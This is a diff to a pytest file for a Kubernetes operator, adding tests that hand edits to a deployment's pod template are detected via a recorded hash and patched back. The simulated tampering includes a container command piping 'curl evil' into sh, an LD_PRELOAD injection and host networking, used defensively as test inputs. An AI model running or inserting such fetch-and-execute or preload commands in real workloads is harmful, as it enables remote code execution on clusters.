@@ -11,7 +11,7 @@ from typing import Any
 import pytest
 
 from finnexus_operator import constants
-from finnexus_operator.adapters.objects import ObjectStore, declares, equivalent
+from finnexus_operator.adapters.objects import ObjectStore, declares, equivalent, template_hash
 from finnexus_operator.core import manifests
 from finnexus_operator.models.spec import FinNexusDeploymentSpec
 from tests.unit.fakekube import FakeKube
@@ -125,9 +125,23 @@ async def test_a_realistically_defaulted_deployment_is_a_no_op() -> None:
     assert container["resources"]["limits"] == {"cpu": "1", "memory": "1Gi"}
     assert stored["spec"]["dnsPolicy"] == "ClusterFirst" and "hostNetwork" not in stored["spec"]
     assert stored["metadata"]["creationTimestamp"] is None
+    # the create, then the hash of what was stored (defaults included) is recorded
+    assert [verb for verb, _, _ in kube.writes] == ["create", "patch"]
+    assert kube.writes[-1][2] == [{"op": "add", "path": "/metadata/annotations", "value": {
+        constants.ANNOTATION_TEMPLATE_HASH: template_hash(stored)}}]
     for _ in range(3):  # pass after pass: nothing to write
         assert not await ObjectStore(kube, "u-1").ensure(deployment())  # type: ignore[arg-type]
-    assert len(kube.writes) == 1
+    assert len(kube.writes) == 2
+
+
+async def test_without_defaults_nothing_is_recorded() -> None:
+    kube = FakeKube(lambda obj: obj)  # the emulator: stores what it is sent
+    assert await ObjectStore(kube, "u-1").ensure(deployment())  # type: ignore[arg-type]
+    assert not await ObjectStore(kube, "u-1").ensure(deployment())  # type: ignore[arg-type]
+    assert [verb for verb, _, _ in kube.writes] == ["create"]
+    kube.objects[DEPLOYMENT]["spec"]["template"]["spec"]["containers"][0]["command"] = ["sh"]
+    assert await ObjectStore(kube, "u-1").ensure(deployment())  # type: ignore[arg-type]
+    assert "command" not in _container(kube.objects[DEPLOYMENT])
 
 
 def _container(obj: dict[str, Any]) -> dict[str, Any]:
@@ -155,6 +169,16 @@ HAND_EDITS: dict[str, Callable[[dict[str, Any]], None]] = {
     "colour label changed": lambda d: d["spec"]["template"]["metadata"]["labels"].update(
         {constants.LABEL_COLOR: "green"}),
     "volume removed": lambda d: d["spec"]["template"]["spec"].pop("volumes"),
+    # fields where we declare nothing: told apart from defaults by the recorded hash
+    "command added": lambda d: d["spec"]["template"]["spec"]["containers"][0].update(
+        command=["/bin/sh", "-c", "curl evil | sh"]),
+    "init container added": lambda d: d["spec"]["template"]["spec"].update(initContainers=[
+        {"name": "init", "image": "busybox", "imagePullPolicy": "IfNotPresent"}]),
+    "default changed": lambda d: d["spec"]["template"]["spec"]["containers"][0].update(
+        imagePullPolicy="Never"),
+    "pod label added": lambda d: d["spec"]["template"]["metadata"]["labels"].update(
+        extra="x"),
+    "host network": lambda d: d["spec"]["template"]["spec"].update(hostNetwork=True),
 }
 
 
@@ -162,7 +186,10 @@ HAND_EDITS: dict[str, Callable[[dict[str, Any]], None]] = {
 async def test_a_hand_edited_pod_template_is_patched_back(edit: str) -> None:
     kube = await deployed()
     HAND_EDITS[edit](kube.objects[DEPLOYMENT])
+    before = len(kube.writes)
     assert await ObjectStore(kube, "u-1").ensure(deployment())  # type: ignore[arg-type]
+    # one write: the declared template (what is stored again is what the hash recorded)
+    assert len(kube.writes) == before + 1
     verb, path, ops = kube.writes[-1]
     assert (verb, path) == ("patch", DEPLOYMENT)
     assert [op["path"] for op in ops] == ["/spec/template"]
@@ -170,6 +197,19 @@ async def test_a_hand_edited_pod_template_is_patched_back(edit: str) -> None:
     # ...and once the API server has defaulted what was written back, it holds again
     assert not await ObjectStore(kube, "u-1").ensure(deployment())  # type: ignore[arg-type]
     assert _container(kube.objects[DEPLOYMENT])["image"] == "registry.example/web:1.4.2"
+
+
+async def test_an_env_var_added_to_a_container_that_declares_none_is_removed() -> None:
+    plain = copy.deepcopy(TEMPLATE)
+    del plain["spec"]["containers"][0]["env"]
+    kube = FakeKube(api_defaults)
+    assert await ObjectStore(kube, "u-1").ensure(deployment(plain))  # type: ignore[arg-type]
+    assert not await ObjectStore(kube, "u-1").ensure(deployment(plain))  # type: ignore[arg-type]
+    kube.objects[DEPLOYMENT]["spec"]["template"]["spec"]["containers"][0]["env"] = [
+        {"name": "LD_PRELOAD", "value": "/tmp/x.so"}]
+    assert await ObjectStore(kube, "u-1").ensure(deployment(plain))  # type: ignore[arg-type]
+    assert "env" not in _container(kube.objects[DEPLOYMENT])
+    assert not await ObjectStore(kube, "u-1").ensure(deployment(plain))  # type: ignore[arg-type]
 
 
 async def test_replicas_drift_is_corrected_alone() -> None:
